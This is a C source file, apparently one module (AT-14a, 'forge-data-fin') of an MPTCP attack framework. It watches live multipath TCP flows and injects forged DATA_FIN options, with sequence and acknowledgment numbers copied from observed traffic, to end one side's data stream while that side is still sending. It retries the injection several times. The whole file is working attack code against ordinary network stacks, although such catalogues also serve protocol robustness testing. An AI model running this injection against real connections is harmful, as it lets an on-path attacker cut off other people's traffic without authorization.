/* SPDX-License-Identifier: MIT */
/*
 * AT-14a: a DATA_FIN in the name of an end that is still writing, after the
 * octets it was seen to send, and as many more as others may have carried. It
 * sends the same again, for a full queue loses some.
 */
#include "atk_flows.h"
#include "atk_table.h"
#include "mpx_tcp.h"

static const char *const to_words[] = {"client", "server", NULL};
enum { TRIES = 5 };
#define AGAIN UINT64_C(100000000) /* ns */

enum { TO, AHEAD };
static const struct atk_param params[] = {
    [TO] = {"to", ATK_P_WORD, .words = to_words},
    [AHEAD] = {"ahead", ATK_P_SIZE, .initial = 512000, .max = 1000000000},
    {.name = NULL},
};

struct state {
    struct atk_flows flows;
    uint64_t dsn[ATK_FLOWS_MAX]; /* of the DATA_FIN; 0: none yet */
    unsigned tries;
};

static void forge_data_fin(struct atk *a, struct state *st, unsigned i, int dir,
                           uint64_t now)
{
    const struct atk_watched *f = &st->flows.v[i];
    const struct atk_way *w = &f->way[dir];
    struct mpx_opt o = {.subtype = MPX_SUB_DSS};
    struct atk_opts opts = {0};

    if (!w->has_dsn || !w->has_dack)
        return;
    if (!st->dsn[i])
        st->dsn[i] = w->dsn_next + atk_param(a, AHEAD);
    o.u.dss.has_ack = true;
    o.u.dss.ack8 = w->dack_len == 8;
    o.u.dss.ack = w->dack;
    o.u.dss.has_map = o.u.dss.fin = true;
    o.u.dss.dsn8 = w->dsn_len == 8;
    o.u.dss.dsn = st->dsn[i];
    o.u.dss.dll = 1;
    atk_opts_add(&opts, &o);
    atk_flows_inject(a, f, dir, MPX_TCP_ACK, &opts, NULL, 0, now);
}

static void forge_data_fins(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->flows.n; i++)
        if (atk_flows_live(&st->flows.v[i]))
            forge_data_fin(a, st, i, atk_param(a, TO) == 0, now);
    if (++st->tries < TRIES)
        atk_set_timer(a, now + AGAIN);
}

const struct atk_ops atk_data_fin_forge = {
    .name = "forge-data-fin",
    .id = "AT-14a",
    .does = "ends the stream of an end that is still writing, by a DATA_FIN in "
            "its name",
    .source = "RFC 8684 section 3.3.3",
    .powers = ATK_READ | ATK_INJECT,
    .params = params,
    .state_size = sizeof(struct state),
    .on_segment = atk_flows_watch,
    .on_start = forge_data_fins,
    .on_timer = forge_data_fins,
};
